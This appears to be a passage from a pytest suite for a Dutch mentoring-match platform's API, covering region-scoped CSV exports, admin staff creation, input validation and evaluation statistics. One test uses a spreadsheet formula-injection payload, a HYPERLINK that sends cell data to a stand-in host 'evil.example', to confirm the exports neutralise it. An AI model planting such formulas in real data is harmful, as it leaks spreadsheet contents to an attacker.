        client.get(f"{C}/stats", params={"region": "atlantis"}, headers=rotterdam.headers), 404
    )
    assert_problem(
        client.get(f"{C}/stats", params={"from": "gisteren"}, headers=rotterdam.headers), 422
    )


# --- CSV exports ---------------------------------------------------------------------------


def test_participants_csv_holds_my_region_only(client, make_participant, rotterdam, admin):
    teacher = make_participant("teacher", name="Anouk de Vries")
    pro = make_participant("professional", name="Bram Jansen")
    far = make_participant("teacher", place="amsterdam", name="Amsterdamse Docent")

    response = client.get(f"{C}/export/participants.csv", headers=rotterdam.headers)

    rows = read_csv(response)
    assert response.text.splitlines()[0].startswith("id,name,email,side,region")
    assert "attachment" in response.headers["content-disposition"]
    assert sorted(int(row["id"]) for row in rows) == sorted([teacher.id, pro.id])
    assert {row["name"] for row in rows} == {"Anouk de Vries", "Bram Jansen"}
    assert {row["region"] for row in rows} == {"rotterdam"}
    assert {row["email"] for row in rows} == {teacher.email, pro.email}
    assert "Amsterdamse" not in response.text and far.email not in response.text

    everyone = read_csv(client.get(f"{C}/export/participants.csv", headers=admin.headers))
    assert {int(row["id"]) for row in everyone} == {teacher.id, pro.id, far.id}
    only_amsterdam = read_csv(
        client.get(
            f"{C}/export/participants.csv", params={"region": "amsterdam"}, headers=admin.headers
        )
    )
    assert [int(row["id"]) for row in only_amsterdam] == [far.id]
    assert_problem(
        client.get(
            f"{C}/export/participants.csv",
            params={"region": "amsterdam"},
            headers=rotterdam.headers,
        ),
        404,
    )


def test_participants_csv_with_nobody_has_just_the_header(client, amsterdam, make_participant):
    make_participant("teacher")
    response = client.get(f"{C}/export/participants.csv", headers=amsterdam.headers)
    assert read_csv(response) == []
    assert len(response.text.splitlines()) == 1


def test_matches_csv_holds_my_region_only(client, make_participant, rotterdam, amsterdam):
    t1, p1 = make_participant("teacher"), make_participant("professional")
    t2, p2 = make_participant("teacher"), make_participant("professional")
    liked = mutual_match(client, t1, p1)
    exit_match(client, t1, liked["id"], reason="no_click", note=NOTE)
    blind = blind_match(client, rotterdam, t2.id, p2.id).json()
    far = mutual_match(
        client,
        make_participant("teacher", place="amsterdam"),
        make_participant("professional", place="amsterdam"),
    )

    response = client.get(f"{C}/export/matches.csv", headers=rotterdam.headers)

    rows = read_csv(response)
    assert response.text.splitlines()[0].startswith("id,status,origin,teacher_id")
    assert {int(row["id"]) for row in rows} == {liked["id"], blind["id"]}
    by_id = {int(row["id"]): row for row in rows}
    assert by_id[liked["id"]]["exit_reason"] == "no_click"
    assert by_id[liked["id"]]["status"] == "ended"
    assert by_id[blind["id"]]["origin"] == "coordinator"
    assert int(by_id[blind["id"]]["teacher_id"]) == t2.id
    assert str(far["id"]) not in {row["id"] for row in rows}

    theirs = read_csv(client.get(f"{C}/export/matches.csv", headers=amsterdam.headers))
    assert [int(row["id"]) for row in theirs] == [far["id"]]
    assert_problem(
        client.get(
            f"{C}/export/matches.csv", params={"region": "rotterdam"}, headers=amsterdam.headers
        ),
        404,
    )


def test_csv_cells_cannot_smuggle_spreadsheet_formulas(client, make_participant, rotterdam):
    """A participant chooses their own name; a coordinator opens the export in Excel."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    teacher = make_participant("teacher", name=evil)
    pro = make_participant("professional", name="+31 Bram")
    mutual_match(client, teacher, pro)

    for path in ("participants.csv", "matches.csv"):
        response = client.get(f"{C}/export/{path}", headers=rotterdam.headers)
        for row in read_csv(response):
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@")), (path, value)
        assert "HYPERLINK" in response.text  # still there, just neutralised


# --- admin: creating staff -----------------------------------------------------------------


def staff_body(**overrides: Any) -> dict[str, Any]:
    return {
        "email": "sanne.bakker@example.org",
        "password": "een-lang-wachtwoord",
        "name": "Sanne Bakker",
        "role": "coordinator",
        "regions": ["utrecht"],
    } | overrides


def test_admin_creates_a_coordinator_who_sees_only_their_region(
    client, db, make_participant, admin
):
    in_utrecht = make_participant("teacher", place="utrecht")
    make_participant("professional")  # Rotterdam

    response = client.post(f"{API}/admin/users", json=staff_body(), headers=admin.headers)

    assert response.status_code == 201, response.text
    created = response.json()
    assert created["role"] == "coordinator"
    assert created["regions"] == ["utrecht"]
    assert created["email"] == "sanne.bakker@example.org"
    assert "password" not in response.text and "een-lang-wachtwoord" not in response.text

    tokens = login(client, "Sanne.Bakker@example.org", "een-lang-wachtwoord")
    sanne = Person(created["id"], created["email"], created["name"], None, "", "")
    sanne.headers = {"Authorization": f"Bearer {tokens['access_token']}"}
    assert ids(participants(client, sanne)) == {in_utrecht.id}
    assert_problem(
        client.get(f"{C}/participants", params={"region": "rotterdam"}, headers=sanne.headers),
        404,
    )
    # She is staff, not a participant.
    assert_problem(client.get(f"{API}/feed", headers=sanne.headers), 403)


def test_admin_create_user_reports_the_regions_stored(client, db, admin):
    response = client.post(
        f"{API}/admin/users",
        json=staff_body(regions=["utrecht", "rotterdam", "utrecht"]),
        headers=admin.headers,
    )

    assert response.status_code == 201, response.text
    assert response.json()["regions"] == ["rotterdam", "utrecht"]
    stored = count_rows(db, CoordinatorRegion, CoordinatorRegion.user_id == response.json()["id"])
    assert stored == 2


def test_admin_creates_an_admin(client, admin):
    response = client.post(
        f"{API}/admin/users",
        json=staff_body(email="tweede.admin@example.org", role="admin", regions=[]),
        headers=admin.headers,
    )
    assert response.status_code == 201, response.text
    assert response.json()["role"] == "admin"
    tokens = login(client, "tweede.admin@example.org", "een-lang-wachtwoord")
    headers = {"Authorization": f"Bearer {tokens['access_token']}"}
    assert client.get(f"{C}/participants", headers=headers).status_code == 200


def test_admin_create_user_duplicate_email_is_409(client, db, admin, make_participant):
    teacher = make_participant("teacher")
    first = client.post(f"{API}/admin/users", json=staff_body(), headers=admin.headers)
    assert first.status_code == 201, first.text
    users = count_rows(db, User)

    again = client.post(
        f"{API}/admin/users",
        json=staff_body(email="SANNE.BAKKER@example.org", name="Iemand Anders"),
        headers=admin.headers,
    )
    participant_email = client.post(
        f"{API}/admin/users", json=staff_body(email=teacher.email), headers=admin.headers
    )

    assert_problem(again, 409)
    assert_problem(participant_email, 409)
    assert count_rows(db, User) == users
    # The participant is still a participant and still logs in.
    login(client, teacher.email, PASSWORD)


@pytest.mark.parametrize(
    "overrides",
    [
        {"regions": ["atlantis"]},
        {"regions": ["utrecht", "atlantis"]},
        {"regions": []},
        {"password": "kort"},
        {"role": "participant"},
        {"email": "geen-email"},
    ],
)
def test_admin_create_user_rejects_bad_input_with_422(client, db, admin, overrides):
    users = count_rows(db, User)
    regions = count_rows(db, CoordinatorRegion)

    response = client.post(
        f"{API}/admin/users", json=staff_body(**overrides), headers=admin.headers
    )

    assert_problem(response, 422)
    assert response.json()["errors"]
    assert (count_rows(db, User), count_rows(db, CoordinatorRegion)) == (users, regions)


def test_only_admins_create_staff(client, db, rotterdam, make_participant):
    teacher = make_participant("teacher")
    users = count_rows(db, User)

    assert_problem(
        client.post(f"{API}/admin/users", json=staff_body(), headers=rotterdam.headers), 403
    )
    assert_problem(
        client.post(f"{API}/admin/users", json=staff_body(), headers=teacher.headers), 403
    )
    assert_problem(client.post(f"{API}/admin/users", json=staff_body()), 401)
    assert count_rows(db, User) == users


def test_staff_cannot_self_register(client):
    response = client.post(
        f"{API}/auth/register",
        json={
            "email": "wannabe@example.org",
            "password": PASSWORD,
            "name": "Wannabe",
            "side": "coordinator",
        },
    )
    assert_problem(response, 422)


def test_timestamps_are_utc(client, make_participant, rotterdam):
    teacher, pro = make_participant("teacher"), make_participant("professional")
    mutual_match(client, teacher, pro)
    [row] = coordinator_matches(client, rotterdam)
    for key in ("created_at", "trial_ends_at", "ends_at"):
        assert datetime.fromisoformat(row[key]).utcoffset() == timedelta(0)
    [person, *_] = participants(client, rotterdam)
    assert datetime.fromisoformat(person["created_at"]).tzinfo is not None
    assert datetime.fromisoformat(person["created_at"]) <= datetime.now(UTC) + timedelta(1)


def test_stats_report_hours_pace_and_evaluations(client, make_participant, rotterdam):
    """The figures the programme's evaluation measured: hours, on track, evaluation averages,
    outcomes reached."""
    teacher, pro = make_participant("teacher"), make_participant("professional")
    match = mutual_match(client, teacher, pro)
    for person in (teacher, pro):
        confirmed = client.post(f"{API}/matches/{match['id']}/confirm", headers=person.headers)
        assert confirmed.status_code == 200
    logged = client.post(
        f"{API}/matches/{match['id']}/meetings",
        json={"date": clock.now().date().isoformat(), "hours": 3, "activity": "workplace_visit"},
        headers=teacher.headers,
    )
    assert logged.status_code == 201, logged.text
    midterm = {
        "kind": "midterm",
        "satisfaction": 4,
        "personal_click": 5,
        "professional_click": 3,
        "different_types": 2,
        "match_importance": 4,
        "confidence": 3,
    }
    for person, satisfaction in ((teacher, 4), (pro, 2)):
        filed = client.post(
            f"{API}/matches/{match['id']}/evaluations",
            json=midterm | {"satisfaction": satisfaction},
            headers=person.headers,
        )
        assert filed.status_code == 201, filed.text
    final = {
        "kind": "final",
        "expectations_met": 5,
        "outcomes_reached": ["broader_network"],
        "hours_spent": 20,
        "will_continue": "yes",
    }
    filed = client.post(
        f"{API}/matches/{match['id']}/evaluations", json=final, headers=teacher.headers
    )
    assert filed.status_code == 201, filed.text

    stats = client.get(f"{API}/coordinator/stats", headers=rotterdam.headers).json()
    assert stats["total_hours_logged"] == 3
    assert stats["median_hours_logged"] == 3
    assert stats["share_on_track"] == 1.0  # in its first weeks every pair is on track
    assert stats["midterm_evaluations"] == 2 and stats["final_evaluations"] == 1
    assert stats["midterm_averages"]["satisfaction"] == 3.0
    assert stats["final_averages"]["expectations_met"] == 5.0
    assert stats["outcomes_reached"] == {"broader_network": 1}
    assert stats["will_continue"] == {"yes": 1}


def test_coordinator_match_rows_carry_progress_and_evaluation_answers(
    client, make_participant, rotterdam
):
    teacher, pro = make_participant("teacher"), make_participant("professional")
    match = mutual_match(client, teacher, pro)
    midterm = {
        "kind": "midterm",
        "satisfaction": 2,
        "personal_click": 3,
        "professional_click": 4,
        "different_types": 5,
        "match_importance": 4,
        "confidence": 2,
    }
    filed = client.post(
        f"{API}/matches/{match['id']}/evaluations", json=midterm, headers=pro.headers
    )
    assert filed.status_code == 201, filed.text
    listed = client.get(f"{API}/coordinator/matches", headers=rotterdam.headers)
    row = listed.json()["items"][0]
    assert row["progress"]["hours_logged"] == 0 and row["progress"]["hours_target"] == 20
    by_author = {(e["author_side"], e["kind"]): e for e in row["evaluations"]}
    assert by_author[("professional", "midterm")]["answers"]["satisfaction"] == 2
    assert by_author[("teacher", "midterm")]["filed"] is False
    one = client.get(f"{API}/coordinator/matches/{match['id']}", headers=rotterdam.headers)
    assert one.json()["evaluations"] == row["evaluations"]
    # the partner still sees only that it was filed
    seen = client.get(f"{API}/matches/{match['id']}/evaluations", headers=teacher.headers)
    assert '"satisfaction"' not in seen.text
